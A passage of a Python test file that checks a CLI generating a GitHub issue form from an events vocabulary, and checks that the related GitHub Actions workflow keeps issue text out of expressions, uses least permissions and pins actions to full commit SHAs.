    dropdowns = {e["id"]: e["attributes"] for e in questions if e["type"] == "dropdown"}
    assert dropdowns["lane"]["options"] == [lane.label for lane in vocabulary.lanes_in_order()]
    assert dropdowns["kind"]["options"] == [kind.label for kind in vocabulary.kinds.values()]
    assert dropdowns["tags"]["options"] == [tag.label for tag in vocabulary.tags.values()]
    assert dropdowns["tags"]["multiple"] is True and "multiple" not in dropdowns["lane"]
    for attributes in dropdowns.values():
        options = attributes["options"]
        assert len(set(options)) == len(options) and "none" not in {o.lower() for o in options}
    date = next(e for e in questions if e["id"] == "date")["attributes"]["description"]
    assert "YYYY, YYYY-MM or YYYY-MM-DD" in date


def test_issue_form_command_writes_the_form_of_a_vocabulary(tmp_path):
    out = tmp_path / "form.yml"
    proc = run_cli("issue-form", "--events-dir", str(BAD_EVENTS), "--out", str(out))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert proc.stdout == f"wrote {out}\n"
    form = yaml.safe_load(out.read_text(encoding="utf-8"))
    lane = next(e for e in form["body"] if e.get("id") == "lane")
    assert lane["attributes"]["options"] == ["International", "Central government",
                                             "Provinces and cities", "Market"]
    again = run_cli("issue-form", "--events-dir", str(BAD_EVENTS), "--out", str(out))
    assert again.stdout == f"{out} is up to date\n"


def test_issue_form_command_refuses_labels_github_would_refuse(tmp_path, events):
    text = (events / "vocabulary.yml").read_text(encoding="utf-8")
    (events / "vocabulary.yml").write_text(
        text.replace("{label: Law,", "{label: None,").replace("{label: Target,",
                                                              "{label: Plan,"),
        encoding="utf-8")
    out = tmp_path / "form.yml"
    proc = run_cli("issue-form", "--events-dir", str(events), "--out", str(out))
    assert proc.returncode == 1
    assert 'kinds.law.label: "None" is reserved' in proc.stdout
    assert 'kinds.target.label: "Plan" is also the label of kinds.plan' in proc.stdout
    assert not out.exists()


def test_a_vocabulary_without_tags_has_no_tags_question(events, tmp_path):
    text = (events / "vocabulary.yml").read_text(encoding="utf-8")
    start, end = text.index("tags:\n"), text.index("measures:\n")
    (events / "vocabulary.yml").write_text(text[:start] + text[end:], encoding="utf-8")
    out = tmp_path / "form.yml"
    assert run_cli("issue-form", "--events-dir", str(events), "--out", str(out)).returncode == 0
    ids = [e.get("id") for e in yaml.safe_load(out.read_text(encoding="utf-8"))["body"]]
    assert "tags" not in ids and "lane" in ids
    assert _from_issue(events, body=_body({**BASE, "tags": "Targets"})).returncode == 0
    [path] = _new_files(events)
    # No such question: the answer is not read (the heading is not the form's).
    assert "tags" not in _front_matter(path)[0]


# --- the workflow ---------------------------------------------------------------------

def _workflow() -> dict:
    return yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))


def _steps(workflow: dict) -> list[dict]:
    return [step for job in workflow["jobs"].values() for step in job["steps"]]


def test_the_workflow_never_puts_issue_text_in_an_expression_of_a_step():
    workflow = _workflow()
    for step in _steps(workflow):
        run = step.get("run", "")
        assert "${{" not in run, run
        # Nothing of the issue reaches a step's environment or inputs either: only what the
        # converter wrote to $GITHUB_OUTPUT (steps.convert.outputs) and the token.
        for value in [*step.get("env", {}).values(), *step.get("with", {}).values()]:
            for expression in re.findall(r"\$\{\{(.*?)\}\}", str(value)):
                assert "github.event" not in expression, expression
                assert re.fullmatch(
                    r"\s*(github\.token|steps\.convert\.outputs\.(issue|path|branch|valid))\s*",
                    expression), expression
    text = WORKFLOW.read_text(encoding="utf-8")
    for expression in re.findall(r"\$\{\{(.*?)\}\}", text):
        assert ".body" not in expression and ".title" not in expression


def test_the_workflow_runs_on_the_accepted_label_with_least_permissions():
    workflow = _workflow()
    on = workflow.get("on", workflow.get(True))  # YAML 1.1 reads a bare `on` as true
    assert on == {"issues": {"types": ["labeled"]}}
    assert workflow["permissions"] == {}
    assert "issue.number" in workflow["concurrency"]["group"]
    [job] = workflow["jobs"].values()
    assert "github.event.label.name == 'accepted'" in job["if"]
    assert job["permissions"] == {"contents": "write", "pull-requests": "write",
                                  "issues": "write"}
    assert 0 < job["timeout-minutes"] <= 30
    runs = "\n".join(step.get("run", "") for step in job["steps"])
    assert "pip install --require-hashes -r requirements.lock && pip install --no-deps ." in runs
    assert 'from-issue --github-event "$GITHUB_EVENT_PATH"' in runs
    assert "gh pr create" in runs and "--body-file" in runs and "(--draft)" in runs
    assert "gh issue comment" in runs and "git commit --file" in runs
    assert "github-actions[bot]" in runs
    # The step that reads the issue has no token.
    convert = next(step for step in job["steps"] if step.get("id") == "convert")
    assert "env" not in convert
    checkout = next(s for s in job["steps"] if s.get("uses", "").startswith("actions/checkout@"))
    assert checkout["with"]["persist-credentials"] is False


def test_every_action_is_pinned_to_a_full_commit_sha_with_its_version():
    text = WORKFLOW.read_text(encoding="utf-8")
    uses = re.findall(r"^\s*(?:-\s+)?uses:\s*(.*)$", text, re.M)
    assert len(uses) == len([s for s in _steps(_workflow()) if "uses" in s]) >= 2
    for line in uses:
        assert re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40} # v[0-9]+(\.[0-9]+)*", line), line
    setup = next(s for s in _steps(_workflow()) if s.get("uses", "").startswith(
        "actions/setup-python@"))
    assert setup["with"]["cache"] == "pip"
    assert setup["with"]["cache-dependency-path"] == "requirements*.lock"


def test_the_workflow_reads_only_outputs_the_converter_writes():
    """Every steps.convert.outputs.NAME the workflow reads is one from-issue writes."""
    text = WORKFLOW.read_text(encoding="utf-8")
    names = set(re.findall(r"steps\.convert\.outputs\.([a-z]+)", text))
    assert names == {"issue", "path", "branch", "valid"}
    assert os.path.basename(WORKFLOW) == "suggest-event.yml"
